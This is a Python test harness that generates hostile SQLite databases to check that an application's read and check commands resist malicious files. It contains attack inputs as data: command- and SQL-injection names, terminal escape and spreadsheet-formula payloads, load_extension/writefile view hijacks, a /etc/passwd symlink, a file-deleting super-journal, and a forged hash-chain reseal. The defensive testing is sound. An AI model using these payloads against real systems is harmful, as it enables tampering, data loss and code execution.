#!/usr/bin/env python3
"""Hostile databases. From a healthy base it makes ~80 files: code in views/triggers/defaults/checks/generated columns/indexes,
infinite and huge queries, huge schemas, deep JSON, type confusion, hostile names, forged/cut/rewritten journals. Each file is given to
every --read/--check template under a memory cap and time limit. Rules: no crash/timeout/silent failure, RSS under the cap, no raw control
character printed, no byte of the directory changed, no canary file made; files in TAMPER must be rejected by --check (or by --anchor)."""
import argparse
from lib import *
ap = argparse.ArgumentParser(); common(ap)
ap.add_argument("--fill", required=True); ap.add_argument("--rows", type=int, default=20); ap.add_argument("--read", action="append", default=[]); ap.add_argument("--check", action="append", default=[])
ap.add_argument("--table", default="item", help="a real user table"); ap.add_argument("--name-col", default="key"); ap.add_argument("--text-col", default="val"); ap.add_argument("--journal", default="journal"); ap.add_argument("--changes", default="change", help="the table of before and after images"); ap.add_argument("--money", default="application.reserve_fund_fen"); ap.add_argument("--more", action="append", default=[], help="commands that fill other tables")
ap.add_argument("--mem", type=int, default=1024, help="RLIMIT_AS MiB"); ap.add_argument("--rss", type=int, default=400, help="max RSS MiB"); ap.add_argument("--timeout", type=float, default=15); ap.add_argument("--wall", type=float, default=0, help="most seconds one command may take"); ap.add_argument("--only"); ap.add_argument("--every", type=int, default=1, help="only each so many-th case"); ap.add_argument("--keep")
ap.add_argument("--anchor", help="check template with {head}: must reject the roll-back cases")
a = ap.parse_args(); bad = []; st = {}; worst = {"wall": 0, "rss": 0}; T, N, V, J, G = a.table, a.name_col, a.text_col, a.journal, a.changes; MT, MC = a.money.split(".")
d0 = tempfile.mkdtemp(prefix="hd0-", dir=a.work); db0 = setup(a.init, d0)
def fill(db, i, n):
    for k in range(i, n):
        r = run(expand(a.fill, db=db, key=f"n{k:04d}", val="v"))
        if r.rc: sys.exit(f"fill {r}")
for tpl in a.more:
    r = run(expand(tpl, db=db0, dir=d0))
    if r.rc: sys.exit(f"more {r}")
fill(db0, 0, a.rows // 2); old = open(db0, "rb").read(); fill(db0, a.rows // 2, a.rows); orig = open(db0, "rb").read()
head = sqlite3.connect(db0).execute(f"select hash from {J} order by seq desc limit 1").fetchone()[0]
CAN = os.path.join(d0, "canary")
def edit(*stmts, notrig=True, params=None, base=None):
    def f(p):
        open(p, "wb").write(base or orig); c = sqlite3.connect(p, isolation_level=None); c.execute("pragma ignore_check_constraints=on")
        trg = c.execute("select name,sql from sqlite_master where type='trigger'").fetchall() if notrig else []
        for n, _ in trg: c.execute(f'drop trigger "{n}"')
        for s in stmts:
            if callable(s): s(c)
            else: c.execute(s)
        for _, q in trg: c.execute(q)
        c.close()
    return f
def schema(old_sql, new_sql):  # rewrite sqlite_master text
    def f(c): c.execute("pragma writable_schema=on"); c.execute("update sqlite_master set sql=replace(sql,?,?) where name=?", (old_sql, new_sql, T)); c.execute("pragma writable_schema=reset")
    return f
def loose(*stmts):  # another declared type while the statements run, then the schema as it was
    def f(c):
        was = c.execute("select type,name,tbl_name,sql from sqlite_master").fetchall(); c.execute("pragma writable_schema=on"); c.execute("update sqlite_master set sql=replace(sql,'STRICT','') where type='table'"); c.execute("pragma writable_schema=reset")
        for q in stmts: c.execute(q)
        c.execute("pragma writable_schema=on"); [c.execute("update sqlite_master set sql=? where type=? and name=?", (q, ty, n)) for ty, n, _, q in was if ty == "table"]; c.execute("pragma writable_schema=reset")
    return f
def hijack(view_sql): return edit(f"alter table {T} rename to {T}_real", f"create view {T} as {view_sql}", notrig=True) if False else edit(lambda c: hij(c, view_sql), notrig=False)
def hij(c, v):
    for (n,) in c.execute("select name from sqlite_master where type='trigger'").fetchall(): c.execute(f'drop trigger "{n}"')
    c.execute("pragma legacy_alter_table=on"); c.execute(f"alter table {T} rename to {T}_real"); c.execute(f"create view {T} as {v}")
INF = "with recursive r(x) as (select 1 union all select x+1 from r)"
cols = [r[1] for r in sqlite3.connect(db0).execute(f"pragma table_info({T})")]; sel = ",".join(f"x {c}" for c in cols)
def many(kind, n):
    def f(c):
        c.execute("begin")
        for i in range(n): c.execute({"table": f"create table z{i}(a)", "view": f"create view z{i} as select 1", "trigger": f"create trigger z{i} after insert on {J} begin select 1; end", "index": f"create index z{i} on {T}({V})"}[kind])
        c.execute("commit")
    return f
def names(*vals):
    def f(c):
        ids = [r[0] for r in c.execute(f"select rowid from {T} order by rowid").fetchall()]
        for i, v in zip(ids, vals): c.execute(f"update {T} set {N}={v if isinstance(v, str) and v.startswith('cast(') else '?'} where rowid={i}", () if isinstance(v, str) and v.startswith("cast(") else (v,))
    return f
NAMES = {"ansi": ["\x1b[2J\x1b[1;1H\x1b[32m审核通过\x1b[0m", "\x1b]0;title\x07", "\x1b]52;c;cm0gLXJm\x07", "\x1b]8;;http://evil/\x07点击\x1b]8;;\x07", "\x9b31mC1", "\x1bP$q\x1b\\", "a\rb", "\x08\x08\x08x", "\x1b[6n"],
 "bidi": ["abc\u202egnp.exe", "\u2066x\u2069", "\u200e\u200f", "\u061c", "a\u200bb", "\ufeffbom", "\u2028ls\u2029ps"], "newline": ["a\nb,c", "a\r\nb", "tab\there", "\u0085nel", "\v\f"], "formula": ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1+1", "＋1", '=HYPERLINK("http://x?"&A1)', "'=1", '"=1', " =1"],
 "unicode": ["Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A" * 30, "👨‍👩‍👧‍👦" * 50, "𠮷𡈽㐂", "é" + "e\u0301", "Ａ１", "\U000f0000", "\uffff\ufffe", "ﷺ" * 100], "path": ["../../../../tmp/pwn", "/etc/passwd", "CON", "a/b\\c", "..", ".", "-rf", "$(touch " + CAN + ")", "`id`", "; rm -rf x", "%s%s%n", "{0}", "' or 1=1 --", '"; drop table ' + T + "; --"], "markup": ["<script>alert(1)</script>", "|a|b|\n|-|-|", "[x](javascript:alert(1))", "&lt;", "<!ENTITY x>"], "long": ["长" * 300000], "nul": ["cast(x'61006200' as text)", "cast(x'00' as text)"], "badutf8": ["cast(x'fffe80c0af' as text)", "cast(x'eda080' as text)", "cast(x'f4908080' as text)"]}
C = {}
for k, v in NAMES.items(): C["name-" + k] = (edit(names(*v)), 1)
def mj(sql): return edit(f"update {G} set after={sql} where seq=(select max(seq) from {J})")
def field(v): t, b = (b"N", b"") if v is None else (b"I", str(v).encode()) if isinstance(v, int) else (b"T", v.encode()); return t + len(b).to_bytes(8, "big") + b
def reseal(c):  # src/journal/seal.rs
    was = None
    for seq, *entry in c.execute(f"select seq,at,actor,login,command,arguments,undoes from {J} order by seq").fetchall():
        rows = c.execute(f"select id,table_name,op,row_id,before,after from {G} where seq=? order by id", (seq,)).fetchall()
        fields = ["fuhua-journal", 1, c.execute("select database_id from meta").fetchone()[0], seq, *entry, len(rows), *[v for r in rows for v in r], was]
        was = hashlib.sha256(b"".join(map(field, fields))).hexdigest(); c.execute(f"update {J} set hash=? where seq=?", (was, seq))
    return was
_c = sqlite3.connect(":memory:"); sqlite3.connect(db0).backup(_c); [_c.execute(f'drop trigger "{n}"') for (n,) in _c.execute("select name from sqlite_master where type='trigger'").fetchall()]
if reseal(_c) != head: sys.exit("reseal does not know the format of the chain")
def tamper_chain(c):  # the attacker knows the algorithm: a row and its journal entries changed, then everything sealed anew
    c.execute(f"update {T} set {V}='forged' where id=1"); c.execute(f"update {G} set after=json_set(after,'$.{V}','forged') where table_name='{T}' and row_id=1"); reseal(c)
C.update({
 "view-hijack-infinite": (hijack(f"{INF} select {sel} from r"), 1), "view-hijack-cartesian": (hijack("select a.* from " + ",".join(f"{J} {x}" for x in "abcdefgh").replace(f"{J} a", f"{T}_real a")), 1), "view-hijack-blobbomb": (hijack("select " + ",".join(f"zeroblob(900000000) {c}" for c in cols)), 1), "view-hijack-printf": (hijack("select " + ",".join(f"printf('%900000000s','x') {c}" for c in cols)), 1), "view-hijack-loadext": (hijack("select " + ",".join(f"load_extension('/tmp/x') {c}" for c in cols)), 1), "view-hijack-writefile": (hijack("select " + ",".join(f"writefile('{CAN}','x') {c}" for c in cols)), 1), "view-hijack-unknown-fn": (hijack("select " + ",".join(f"sha256('x') {c}" for c in cols)), 1), "view-hijack-dbstat": (hijack("select " + ",".join(f"name {c}" for c in cols) + " from dbstat"), 1), "view-self-loop": (edit(lambda c: (c.execute("create view va as select 1"), c.execute("pragma writable_schema=on"), c.execute("update sqlite_master set sql='create view va as select * from va' where name='va'"))), 1), "view-nest-deep": (edit(lambda c: [c.execute(f"create view w{i} as select * from w{i-1} union all select * from w{i-1}" if i else "create view w0 as select 1") for i in range(60)]), 1),
 "trigger-on-journal": (edit(f"create trigger evil after insert on {J} begin delete from {T}; end"), 1), "trigger-infinite": (edit(f"create trigger evil after insert on {T} begin insert into {J} select 9,9,9,9,9,9,9 from ({INF} select x from r); end"), 1), "trigger-dropped": (edit(lambda c: [c.execute(f'drop trigger "{n}"') for (n,) in c.execute("select name from sqlite_master where type='trigger'").fetchall()], notrig=False), 1), "trigger-emptied": (edit(lambda c: (lambda n: (c.execute(f'drop trigger "{n}"'), c.execute(f'create trigger "{n}" after update on {T} begin select 1; end')))(c.execute("select name from sqlite_master where type='trigger' and sql like '%update%' limit 1").fetchone()[0]), notrig=False), 1),
 "default-fn": (edit(f"alter table {T} add column evil text default (hex(zeroblob(1000)))") if False else edit(f"create table evil(a default (load_extension('x')))"), 1), "check-heavy": (edit(f"create table evil(a check(a > (printf('%9999999s',a))))"), 1), "generated-heavy": (edit(f"alter table {T} add column evil text as (hex(hex(hex(hex(hex(hex({V}))))))) virtual"), 1), "expr-index": (edit(f"create index evil on {T}(upper({V}))"), 1), "index-desc-like-poison": (edit(f"create index evil on {T}({V}) where {V} like '%a%b%c%d%e%f%g%h%'"), 1),
 "fts5-vtab": (edit("create virtual table evil using fts5(a)"), 1), "rtree-vtab": (edit("create virtual table evil using rtree(id,a,b)"), 1), "vtab-unknown": (edit(lambda c: (c.execute("pragma writable_schema=on"), c.execute("insert into sqlite_master values('table','evil','evil',0,'create virtual table evil using nosuch(x)')"))), 1), "schema-nonsense": (edit(lambda c: (c.execute("pragma writable_schema=on"), c.execute("insert into sqlite_master values('table','evil','evil',77777,'create table evil(((')"))), 1), "schema-nul-name": (edit(lambda c: (c.execute("pragma writable_schema=on"), c.execute("insert into sqlite_master values('view',cast(x'610062' as text),'x',0,'create view \"a\x1b[31mb\" as select 1')"))), 1), "schema-rootpage-1": (edit(lambda c: (c.execute("pragma writable_schema=on"), c.execute(f"update sqlite_master set rootpage=1 where name='{T}'"))), 1), "schema-two-tables-one-root": (edit(lambda c: (c.execute("pragma writable_schema=on"), c.execute(f"update sqlite_master set rootpage=(select rootpage from sqlite_master where name='{J}') where name='{T}'"))), 1),
 "schema-5000-tables": (edit(many("table", 5000)), 1), "schema-20000-views": (edit(many("view", 20000)), 1), "schema-2000-triggers": (edit(many("trigger", 2000)), 1), "schema-1800-columns": (edit("create table evil(" + ",".join(f"c{i}" for i in range(1800)) + ")"), 1), "schema-long-sql": (edit(lambda c: c.execute("create view evil as select '" + "x" * 900000 + "'")), 1), "schema-ansi-name": (edit('create table "\x1b[31m\u202eevil\n"(a)'), 1),
 "json-deep": (mj("'" + "[" * 200000 + "]" * 200000 + "'"), 1), "json-broken": (mj("'{\"id\":1,'"), 1), "json-dupkeys": (mj("'{\"id\":1,\"id\":2,\"key\":\"n0000\"}'"), 1), "json-big-number": (mj("'{\"id\":1e999999,\"key\":\"x\"}'"), 1), "json-20MB": (mj("'{\"id\":1,\"key\":\"'||hex(zeroblob(10000000))||'\"}'"), 1), "json-jsonb-blob": (edit(lambda c: (c.execute("pragma writable_schema=on"), c.execute(f"update sqlite_master set sql=replace(sql,'STRICT','') where name='{G}'"), c.execute("pragma writable_schema=reset"), c.execute(f"update {G} set after=x'cc7f1337' where seq=2"))), 1), "json-lone-surrogate": (mj("'{\"id\":1,\"key\":\"\\ud800\"}'"), 1),
 "type-text-in-int": (edit(lambda c: (schema("STRICT", "")(c), c.execute(f"update {T} set {V}=x'00ff'"))), 1), "type-blob-hidden": (edit(loose(f"update {T} set {V}=x'00ff' where id=1")), 1), "type-text-id-hidden": (edit(loose(f"update {MT} set {MC}='12x' where id=1")), 1), "type-blob-in-journal": (edit(loose(f"update {J} set actor=x'00ff' where seq=2")), 1), "type-real-in-change": (edit(loose(f"update {G} set row_id=1.5 where seq=2")), 1), "badutf8-in-journal": (edit(f"update {J} set actor=cast(x'fffe80' as text) where seq=2"), 1), "badutf8-in-personal": (edit(f"update personal set value=cast(x'fffe80' as text)"), 1), "personal-other-value": (edit("update personal set value=value||'1'"), 1), "personal-other-salt": (edit("update personal set salt=replace(salt,'a','b')"), 1), "money-min-i64": (edit(f"update {MT} set {MC}=-9223372036854775808 where rowid=1"), 1), "money-max-i64": (edit(f"update {MT} set {MC}=9223372036854775807"), 1), "money-real": (edit(lambda c: (c.execute("pragma writable_schema=on"), c.execute(f"update sqlite_master set sql=replace(replace(sql,'STRICT',''),'{MC}  INTEGER','{MC}  REAL') where name='{MT}'"), c.execute("pragma writable_schema=reset"), c.execute(f"update {MT} set {MC}=9e999"))), 1), "rowid-max": (edit(f"update {T} set rowid=9223372036854775807 where rowid=1"), 1), "rowid-negative": (edit(f"update {T} set rowid=-5 where rowid=1"), 1),
 "unique-broken": (edit(lambda c: (c.execute("pragma writable_schema=on"), c.execute(f"delete from sqlite_master where type='index' and tbl_name='{T}'"))), 1), "page-65536": (lambda p: (edit()(p), sqlite3.connect(p, isolation_level=None).executescript("pragma page_size=65536; vacuum;")), 0), "page-512": (lambda p: (edit()(p), sqlite3.connect(p, isolation_level=None).executescript("pragma page_size=512; vacuum;")), 0), "auto-vacuum": (lambda p: (edit()(p), sqlite3.connect(p, isolation_level=None).executescript("pragma auto_vacuum=full; vacuum;")), 0), "stat1-garbage": (edit(lambda c: (c.execute("analyze"), c.execute("update sqlite_stat1 set stat='999999999999999999999 -1 x'"))), 1),
 "journal-seq-gap": (edit(f"delete from {J} where seq=3"), 1), "journal-swap": (edit(f"update {J} set seq=-3 where seq=3", f"update {J} set seq=3 where seq=4", f"update {J} set seq=4 where seq=-3"), 1), "journal-hash-null-all": (edit(f"update {J} set hash=null"), 1), "journal-empty": (edit(f"delete from {J}"), 1), "journal-unsealed-insert": (edit(f"insert into {T}({N},{V}) values('外部','x')".replace(f"{V})", f"{V},kind)").replace("'x')", "'x','service')"), notrig=False), 1), "row-edit-no-journal": (edit(f"update {T} set {V}='x' where rowid=3"), 1), "row-delete-no-journal": (edit(f"delete from {T} where rowid=3"), 1), "row-insert-no-journal": (edit(f"insert into {T}({N},{V}) values('幽灵','x')".replace(f"{V})", f"{V},kind)").replace("'x')", "'x','service')")), 1), "replace-recursive-off": (edit(lambda c: (c.execute("pragma recursive_triggers=off"), c.execute(f"insert or {'replace'} into {T}(rowid,{N},{V}) values(1,'n0000','替换')".replace(f"{V})", f"{V},kind)").replace("换')", "换','service')"))), notrig=False), 1),
 "ROLLBACK-old-copy": (lambda p: open(p, "wb").write(old), 2), "ROLLBACK-rewritten-chain": (edit(tamper_chain), 2)})
C.update({"super-journal": (lambda p: open(p, "wb").write(orig), 1), "journal-link": (lambda p: open(p, "wb").write(orig), 1)})
def beside(name, p):  # what lies beside the file
    if name == "super-journal":  # a hot journal that names another file, which SQLite would delete
        n = (CAN + "-mj12345678").encode(); j = bytes.fromhex("d9d505f920a163d7") + (0).to_bytes(4, "big") + b"seed" + (len(orig) // 4096).to_bytes(4, "big") + (512).to_bytes(4, "big") + (4096).to_bytes(4, "big")
        j = j.ljust(512, b"\0") + (2**31 - 1).to_bytes(4, "big")[:0] + n + len(n).to_bytes(4, "big") + sum(n).to_bytes(4, "big") + bytes.fromhex("d9d505f920a163d7"); open(p + "-journal", "wb").write(j); open(n, "w").close()
    if name == "journal-link": os.symlink("/etc/passwd", p + "-journal")
for i, (name, (mk, mode)) in enumerate(C.items()):
    if i % a.every or a.only and a.only not in name: continue
    dd = tempfile.mkdtemp(prefix="hd-", dir=a.work); p = os.path.join(dd, "t.db")
    try: mk(p)
    except sqlite3.Error as e: st["not-built"] = st.get("not-built", 0) + 1; print("  note: cannot build", name, e, file=sys.stderr); shutil.rmtree(dd); continue
    for s in ("-journal", "-wal", "-shm"):
        if os.path.exists(p + s): os.unlink(p + s)
    beside(name, p)
    if a.keep: shutil.copy(p, os.path.join(a.keep, name + ".db"))
    before = tree(dd)
    for label, tpls in (("read", a.read), ("check", a.check), ("anchor", [a.anchor] if a.anchor and mode == 2 else [])):
        for tpl in tpls:
            r = run(expand(tpl, db=p, dir=dd, head=head, key="n0001"), timeout=a.timeout, mem_mb=a.mem); k = kind(r); st[f"{label}:{k}"] = st.get(f"{label}:{k}", 0) + 1
            if r.wall > worst["wall"]: worst["wall"] = round(r.wall, 2); worst["slow"] = name
            if r.rss > worst["rss"]: worst["rss"] = r.rss; worst["fat"] = name
            if k in ("crash", "timeout", "silent"): bad.append(f"{name}: {label} {k} {r}")
            if a.wall and r.wall > a.wall: bad.append(f"{name}: {label} took {r.wall:.1f} s")
            if name == "super-journal" and not os.path.exists(CAN + "-mj12345678"): bad.append("super-journal: another file was deleted"); open(CAN + "-mj12345678", "w").close()
            if r.rss > a.rss << 10: bad.append(f"{name}: {label} used {r.rss >> 10} MiB")
            rc = raw_controls(r.out + r.err)
            if rc: bad.append(f"{name}: {label} printed raw {rc}")
            if tree(dd) != before: bad.append(f"{name}: {label} changed the directory"); before = tree(dd)
            if os.path.exists(CAN): bad.append(f"{name}: {label} CODE RAN"); os.unlink(CAN)
            if label == "check" and mode == 1 and k == "ok": bad.append(f"UNDETECTED {name}")
            if label == "anchor" and k == "ok": bad.append(f"UNDETECTED with anchor {name}")
    shutil.rmtree(dd)
shutil.rmtree(d0); worst["rss"] = f"{worst['rss'] >> 10} MiB"
report("hostile_db", bad, {"tried": (len(C) + a.every - 1) // a.every, **dict(sorted(st.items())), **worst})
